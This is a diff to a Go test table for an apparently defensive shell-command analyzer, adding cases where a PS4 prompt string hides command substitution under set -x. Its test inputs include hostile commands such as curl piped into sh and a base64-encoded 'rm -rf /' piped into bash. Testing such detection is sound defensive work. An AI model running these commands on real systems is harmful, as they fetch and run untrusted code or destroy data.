@@ -264,6 +264,9 @@ var extractTests = []extractTest{
 	{name: "printf into shell", src: `printf '%s\n' 'rm a' 'rm b' | sh`, execs: []string{`printf %s\n "rm a" "rm b"`, "sh", "@1 sh>rm a", "@1 sh>rm b"}, writes: []string{"delete a", "delete b"}, confirm: true},
 	{name: "cat heredoc into shell", src: "cat <<EOF | sh\nrm a\nEOF", execs: []string{"cat", "sh", "@1 sh>rm a"}, writes: []string{"delete a"}, confirm: true},
 	{name: "curl into shell", src: "curl -s https://x | sh", execs: []string{"curl -s https://x", "sh"}, unknowns: []string{"shell-text"}, confirm: true},
+	{name: "PS4 runs commands under set -x", src: "PS4='$(rm a)'; set -x; true", execs: []string{"set -x", "true"}, unknowns: []string{"shell-text"}},
+	{name: "PS4 exported", src: "PS4='`rm a`' bash -xc true", execs: []string{"bash -xc true", "@1 bash>true"}, unknowns: []string{"shell-text", "shell-text"}}, // as a variable and in the environment
+	{name: "PS4 plain", src: "PS4='+ ${BASH_SOURCE}:${LINENO}: '; set -x; true", execs: []string{"set -x", "true"}},
 	{name: "base64 into bash", src: "echo cm0gLXJmIC8= | base64 -d | bash", execs: []string{"echo cm0gLXJmIC8=", "base64 -d", "bash", "@1 bash>rm -rf /"}, writes: []string{"delete / -r"}, confirm: true},
 	{name: "base64 of unknown into bash", src: "echo $P | base64 -d | bash", execs: []string{"echo ?$P", "base64 -d", "bash"}, unknowns: []string{"shell-text"}},
 	{name: "not base64 into bash", src: "echo 'cm0gLXJm!' | base64 -d | bash", execs: []string{"echo cm0gLXJm!", "base64 -d", "bash"}, unknowns: []string{"shell-text"}},
